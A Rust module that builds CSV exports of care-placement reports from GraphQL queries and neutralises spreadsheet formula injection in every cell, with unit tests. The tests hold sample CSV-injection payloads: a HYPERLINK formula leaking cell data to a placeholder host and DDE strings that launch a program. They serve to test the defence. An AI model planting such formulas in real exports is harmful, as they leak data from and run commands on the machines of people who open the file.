//! CSV exports of the reports: `GET /export/{report}.csv?…` with the bearer token.
//!
//! An export runs the report's own GraphQL query through the schema, as the caller, so it
//! shares the resolvers' code, access rules and disclosure control; the run is audited as
//! `EXPORT`. A suppressed figure is written as `c`, a figure that does not exist as an
//! empty cell.
//!
//! Every cell of every export passes through [`neutralise`] (OWASP's advice on CSV
//! injection): a text that a spreadsheet would read as a formula — one starting with `=`,
//! `+`, `-`, `@`, a tab, a carriage return or a line feed — is written with a leading `'`,
//! so that it opens as the text it is. A cell that is a plain number (a negative `gap` of
//! the sufficiency report, `-3`) is a figure, not a formula, and is written as it is.
//!
//! | report | parameters |
//! | --- | --- |
//! | `scorecard` | `asOf`, `from` + `to`, `authorities` (codes, comma-separated) |
//! | `tracking` | `asOf`, `kinds` (comma-separated) |
//! | `sufficiency` | `asOf`, `authorities` |
//! | `funnel` | `from` + `to` (required), `asOf`, `authorities`, `groupBy` (comma-separated) |
//! | `flows` | `from` + `to` (required), `authorities` |
use std::borrow::Cow;
use std::collections::HashMap;

use async_graphql::{Name, Value, Variables};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use serde_json::{Value as Json, json};

use crate::error::AppError;

/// A report that can be exported.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Report {
    Scorecard,
    Tracking,
    Sufficiency,
    Funnel,
    Flows,
}

impl Report {
    /// The report named by the file name (`scorecard.csv`).
    pub fn from_file(file: &str) -> Option<Report> {
        match file.strip_suffix(".csv")? {
            "scorecard" => Some(Report::Scorecard),
            "tracking" => Some(Report::Tracking),
            "sufficiency" => Some(Report::Sufficiency),
            "funnel" => Some(Report::Funnel),
            "flows" => Some(Report::Flows),
            _ => None,
        }
    }
}

const SHOWN: &str = "value suppressed";

fn scorecard_query() -> String {
    let figures = format!(
        "authority {{ code }} cohort {{ {SHOWN} }}
         a1 {{ days {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays met }}
         a10 {{ days {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays met }}
         a2 {{ days {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays met }}
         a3 {{ count {{ {SHOWN} }} percent {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays }}"
    );
    let period = format!("from to total {{ {figures} }} authorities {{ {figures} }}");
    format!(
        "query($asOf: Date, $period: PeriodInput, $authorityIds: [ID!]) {{
           scorecard(asOf: $asOf, period: $period, authorityIds: $authorityIds) {{
             period {{ {period} }} years {{ {period} }}
           }}
         }}"
    )
}

const TRACKING_QUERY: &str = "query($asOf: Date, $kinds: [ChildAlertKind!], $after: String) {
  trackingAlerts(asOf: $asOf, kinds: $kinds, first: 100, after: $after) {
    pageInfo { hasNextPage endCursor }
    edges { node { kind since daysOverdue projectedA1Days projectedOverThreshold
                   child { id profileName authority { code } } } }
  }
}";

const SUFFICIENCY_QUERY: &str = "query($asOf: Date, $authorityIds: [ID!]) {
  sufficiency(asOf: $asOf, authorityIds: $authorityIds) {
    asOf rows { characteristic children { value suppressed } units { value suppressed }
                households { value suppressed } gap }
  }
}";

const FLOWS_QUERY: &str = "query($period: PeriodInput!, $authorityIds: [ID!]) {
  crossBoundaryFlows(period: $period, authorityIds: $authorityIds) {
    cells { childAuthority { code } householdAuthority { code }
            children { value suppressed } feesPence { value suppressed } }
    total { children { value suppressed } feesPence { value suppressed } }
    crossBoundaryChildren { value suppressed } crossBoundaryPercent { value suppressed }
    crossBoundaryFeesPence { value suppressed }
  }
}";

fn funnel_query() -> String {
    let group = format!(
        "authority {{ code }} channel enquiryMonth
         stageCounts {{ stage count {{ {SHOWN} }} }}
         cohort {{ size {{ {SHOWN} }} approved {{ {SHOWN} }} leftBeforeApproval {{ {SHOWN} }}
                  inProgress {{ {SHOWN} }} onHold {{ {SHOWN} }}
                  stages {{ stage reached {{ {SHOWN} }} fromPrevious {{ {SHOWN} }} fromEnquiry {{ {SHOWN} }} }}
                  exits {{ stage reason count {{ {SHOWN} }} }} }}
         timeliness {{ step count {{ {SHOWN} }} meanDays {{ {SHOWN} }} medianDays {{ {SHOWN} }} withinTarget {{ {SHOWN} }} }}"
    );
    format!(
        "query($period: PeriodInput!, $asOf: Date, $authorityIds: [ID!], $groupBy: [FunnelGroupBy!]!) {{
           recruitmentFunnel(period: $period, asOf: $asOf, authorityIds: $authorityIds, groupBy: $groupBy) {{
             from to total {{ {group} }} groups {{ {group} }}
           }}
         }}"
    )
}

/// Turns query-string parameters into the report's GraphQL query and variables.
/// `authority_id` maps an authority code to its global id (`None` if unknown).
pub fn request_for(
    report: Report,
    params: &HashMap<String, String>,
    authority_id: impl Fn(&str) -> Option<String>,
) -> Result<(String, Variables), AppError> {
    let mut vars = serde_json::Map::new();
    if let Some(as_of) = params.get("asOf") {
        vars.insert("asOf".into(), json!(as_of));
    }
    let period = match (params.get("from"), params.get("to")) {
        (Some(from), Some(to)) => Some(json!({ "from": from, "to": to })),
        (None, None) => None,
        _ => return Err(AppError::bad_input("from", "give both from and to")),
    };
    if let Some(codes) = params.get("authorities") {
        let mut ids = Vec::new();
        for code in codes.split(',').map(str::trim).filter(|c| !c.is_empty()) {
            ids.push(authority_id(code).ok_or(AppError::NotFound)?);
        }
        vars.insert("authorityIds".into(), json!(ids));
    }
    let list = |key: &str| -> Vec<String> {
        params
            .get(key)
            .map(|v| {
                v.split(',')
                    .map(|x| x.trim().to_owned())
                    .filter(|x| !x.is_empty())
                    .collect()
            })
            .unwrap_or_default()
    };
    let query = match report {
        Report::Scorecard => {
            if let Some(p) = period {
                vars.insert("period".into(), p);
            }
            scorecard_query()
        }
        Report::Tracking => {
            vars.remove("authorityIds");
            if params.contains_key("kinds") {
                vars.insert("kinds".into(), json!(list("kinds")));
            }
            TRACKING_QUERY.to_owned()
        }
        Report::Sufficiency => SUFFICIENCY_QUERY.to_owned(),
        Report::Flows => {
            let period =
                period.ok_or_else(|| AppError::bad_input("from", "flows need from and to"))?;
            vars.insert("period".into(), period);
            FLOWS_QUERY.to_owned()
        }
        Report::Funnel => {
            vars.insert(
                "period".into(),
                period
                    .ok_or_else(|| AppError::bad_input("from", "the funnel needs from and to"))?,
            );
            vars.insert("groupBy".into(), json!(list("groupBy")));
            funnel_query()
        }
    };
    Ok((query, Variables::from_json(Json::Object(vars))))
}

/// The `after` variable for the next page of a paged export.
pub fn next_page(variables: &Variables, cursor: &str) -> Variables {
    let mut v = variables.clone();
    v.insert(Name::new("after"), Value::String(cursor.to_owned()));
    v
}

/// A figure as a CSV cell: `c` when suppressed, empty when absent.
fn cell(figure: &Json) -> String {
    if figure["suppressed"].as_bool() == Some(true) {
        return "c".into();
    }
    scalar(&figure["value"])
}

fn scalar(v: &Json) -> String {
    match v {
        Json::Null => String::new(),
        Json::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// The characters a spreadsheet starts a formula (or a DDE command) with, the full-width
/// forms too.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// `cell` made safe to open in a spreadsheet: prefixed with `'` when it starts — or starts
/// after spaces — with a character of [`FORMULA_STARTS`], unless it is a plain number such as
/// `-3` or `-2.5`. The CSV writer then quotes it as needed (a cell holding `"`, `,`, CR or
/// LF is quoted, inner quotes doubled).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let visible = cell.trim_start_matches(' ');
    let risky = visible.starts_with(FORMULA_STARTS);
    if risky && !is_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether `cell` is a plain decimal number: an optional `-`, digits, and optionally a `.`
/// and more digits.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV writer whose every cell goes through [`neutralise`].
struct Cells(csv::Writer<Vec<u8>>);

impl Cells {
    fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            record
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        )
    }
}

/// Writes the CSV of `report` from the data of its query(s).
pub fn to_csv(report: Report, pages: &[Json]) -> Result<Vec<u8>, csv::Error> {
    let mut w = Cells(csv::Writer::from_writer(Vec::new()));
    match report {
        Report::Scorecard => {
            w.write_record([
                "period_from",
                "period_to",
                "authority",
                "measure",
                "value",
                "cohort",
                "threshold_days",
                "met",
            ])?;
            let data = &pages[0]["scorecard"];
            let periods = std::iter::once(&data["period"])
                .chain(data["years"].as_array().into_iter().flatten());
            for p in periods {
                let from = scalar(&p["from"]);
                let to = scalar(&p["to"]);
                let rows = std::iter::once(&p["total"])
                    .chain(p["authorities"].as_array().into_iter().flatten());
                for f in rows {
                    let who = f["authority"]["code"]
                        .as_str()
                        .unwrap_or("TOTAL")
                        .to_owned();
                    w.write_record([
                        &from,
                        &to,
                        &who,
                        "COHORT",
                        &cell(&f["cohort"]),
                        &cell(&f["cohort"]),
                        "",
                        "",
                    ])?;
                    for m in ["a1", "a10", "a2"] {
                        let x = &f[m];
                        w.write_record([
                            &from,
                            &to,
                            &who,
                            &m.to_uppercase(),
                            &cell(&x["days"]),
                            &cell(&x["cohort"]),
                            &scalar(&x["thresholdDays"]),
                            &scalar(&x["met"]),
                        ])?;
                    }
                    let a3 = &f["a3"];
                    w.write_record([
                        &from,
                        &to,
                        &who,
                        "A3",
                        &cell(&a3["count"]),
                        &cell(&a3["cohort"]),
                        &scalar(&a3["thresholdDays"]),
                        "",
                    ])?;
                    w.write_record([
                        &from,
                        &to,
                        &who,
                        "A3_PERCENT",
                        &cell(&a3["percent"]),
                        &cell(&a3["cohort"]),
                        "",
                        "",
                    ])?;
                }
            }
        }
        Report::Tracking => {
            w.write_record([
                "child_id",
                "profile_name",
                "authority",
                "alert",
                "since",
                "days_overdue",
                "projected_a1_days",
                "projected_over_threshold",
            ])?;
            for page in pages {
                for e in page["trackingAlerts"]["edges"]
                    .as_array()
                    .into_iter()
                    .flatten()
                {
                    let n = &e["node"];
                    w.write_record([
                        scalar(&n["child"]["id"]),
                        scalar(&n["child"]["profileName"]),
                        scalar(&n["child"]["authority"]["code"]),
                        scalar(&n["kind"]),
                        scalar(&n["since"]),
                        scalar(&n["daysOverdue"]),
                        scalar(&n["projectedA1Days"]),
                        scalar(&n["projectedOverThreshold"]),
                    ])?;
                }
            }
        }
        Report::Sufficiency => {
            w.write_record([
                "as_of",
                "characteristic",
                "children",
                "units",
                "households",
                "gap",
            ])?;
            let data = &pages[0]["sufficiency"];
            for r in data["rows"].as_array().into_iter().flatten() {
                let gap = if r["gap"].is_null()
                    && (r["units"]["suppressed"] == true || r["households"]["suppressed"] == true)
                {
                    "c".to_owned()
                } else {
                    scalar(&r["gap"])
                };
                w.write_record([
                    scalar(&data["asOf"]),
                    scalar(&r["characteristic"]),
                    cell(&r["children"]),
                    cell(&r["units"]),
                    cell(&r["households"]),
                    gap,
                ])?;
            }
        }
        Report::Flows => {
            w.write_record([
                "child_authority",
                "household_authority",
                "children",
                "fees_pence",
            ])?;
            let data = &pages[0]["crossBoundaryFlows"];
            for c in data["cells"].as_array().into_iter().flatten() {
                w.write_record([
                    scalar(&c["childAuthority"]["code"]),
                    scalar(&c["householdAuthority"]["code"]),
                    cell(&c["children"]),
                    cell(&c["feesPence"]),
                ])?;
            }
            let total = &data["total"];
            w.write_record([
                "TOTAL".to_owned(),
                "TOTAL".to_owned(),
                cell(&total["children"]),
                cell(&total["feesPence"]),
            ])?;
            w.write_record([
                "CROSS_BOUNDARY".to_owned(),
                String::new(),
                cell(&data["crossBoundaryChildren"]),
                cell(&data["crossBoundaryFeesPence"]),
            ])?;
        }
        Report::Funnel => {
            w.write_record([
                "authority",
                "channel",
                "enquiry_month",
                "section",
                "item",
                "detail",
                "measure",
                "value",
            ])?;
            let data = &pages[0]["recruitmentFunnel"];
            let groups = std::iter::once((true, &data["total"])).chain(
                data["groups"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .map(|g| (false, g)),
            );
            for (is_total, g) in groups {
                let key = [
                    if is_total {
                        "TOTAL".to_owned()
                    } else {
                        g["authority"]["code"].as_str().unwrap_or("").to_owned()
                    },
                    scalar(&g["channel"]),
                    scalar(&g["enquiryMonth"]),
                ];
                let mut row =
                    |section: &str, item: &str, detail: &str, measure: &str, value: String| {
                        w.write_record([
                            &key[0], &key[1], &key[2], section, item, detail, measure, &value,
                        ])
                    };
                for s in g["stageCounts"].as_array().into_iter().flatten() {
                    row(
                        "stage_counts",
                        &scalar(&s["stage"]),
                        "",
                        "count",
                        cell(&s["count"]),
                    )?;
                }
                let c = &g["cohort"];
                for m in [
                    "size",
                    "approved",
                    "leftBeforeApproval",
                    "inProgress",
                    "onHold",
                ] {
                    row("cohort", m, "", "count", cell(&c[m]))?;
                }
                for s in c["stages"].as_array().into_iter().flatten() {
                    let stage = scalar(&s["stage"]);
                    row("cohort_stage", &stage, "", "reached", cell(&s["reached"]))?;
                    row(
                        "cohort_stage",
                        &stage,
                        "",
                        "from_previous_percent",
                        cell(&s["fromPrevious"]),
                    )?;
                    row(
                        "cohort_stage",
                        &stage,
                        "",
                        "from_enquiry_percent",
                        cell(&s["fromEnquiry"]),
                    )?;
                }
                for e in c["exits"].as_array().into_iter().flatten() {
                    row(
                        "cohort_exit",
                        &scalar(&e["stage"]),
                        &scalar(&e["reason"]),
                        "count",
                        cell(&e["count"]),
                    )?;
                }
                for t in g["timeliness"].as_array().into_iter().flatten() {
                    let step = scalar(&t["step"]);
                    row("timeliness", &step, "", "count", cell(&t["count"]))?;
                    row("timeliness", &step, "", "mean_days", cell(&t["meanDays"]))?;
                    row(
                        "timeliness",
                        &step,
                        "",
                        "median_days",
                        cell(&t["medianDays"]),
                    )?;
                    row(
                        "timeliness",
                        &step,
                        "",
                        "within_target_percent",
                        cell(&t["withinTarget"]),
                    )?;
                }
            }
        }
    }
    w.0.into_inner().map_err(|e| e.into_error().into())
}

/// The HTTP status of a report's error code.
pub fn status_of(code: &str) -> StatusCode {
    match code {
        "UNAUTHENTICATED" => StatusCode::UNAUTHORIZED,
        "FORBIDDEN" => StatusCode::FORBIDDEN,
        "NOT_FOUND" => StatusCode::NOT_FOUND,
        "BAD_USER_INPUT" => StatusCode::BAD_REQUEST,
        "RATE_LIMITED" => StatusCode::TOO_MANY_REQUESTS,
        "UNAVAILABLE" => StatusCode::SERVICE_UNAVAILABLE,
        _ => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

/// A CSV response named after the report.
pub fn csv_response(file: &str, body: Vec<u8>) -> Response {
    let mut response = (StatusCode::OK, body).into_response();
    let headers = response.headers_mut();
    headers.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{file}\"")) {
        headers.insert(header::CONTENT_DISPOSITION, v);
    }
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
        for cell in [
            r#"=HYPERLINK("http://x?"&A1,"Click")"#,
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "\u{FF1D}1+1",
            "-",
            "-3x",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_numbers_are_left_as_they_are() {
        for cell in [
            "",
            "alder",
            "c",
            "Ruby",
            "A=B",
            "2024-06-30",
            "-3",
            "-2.5",
            "0",
            "12.5",
            "TOTAL",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_neutralised_cell_is_quoted_with_its_quotes_doubled() {
        let pages = [json!({ "trackingAlerts": { "edges": [{ "node": {
            "kind": "IN_CARE_OVER426_DAYS_NOT_PLACED", "since": "2024-01-01", "daysOverdue": 3,
            "projectedA1Days": 429, "projectedOverThreshold": true,
            "child": { "id": "Q2hpbGQ6MQ", "profileName": r#"=HYPERLINK("http://x?"&A1,"Click")"#,
                       "authority": { "code": "alder" } } } }] } })];
        let csv = String::from_utf8(to_csv(Report::Tracking, &pages).unwrap()).unwrap();
        assert_eq!(
            csv.lines().nth(1),
            Some(
                r#"Q2hpbGQ6MQ,"'=HYPERLINK(""http://x?""&A1,""Click"")",alder,IN_CARE_OVER426_DAYS_NOT_PLACED,2024-01-01,3,429,true"#
            ),
            "{csv}"
        );
    }
}
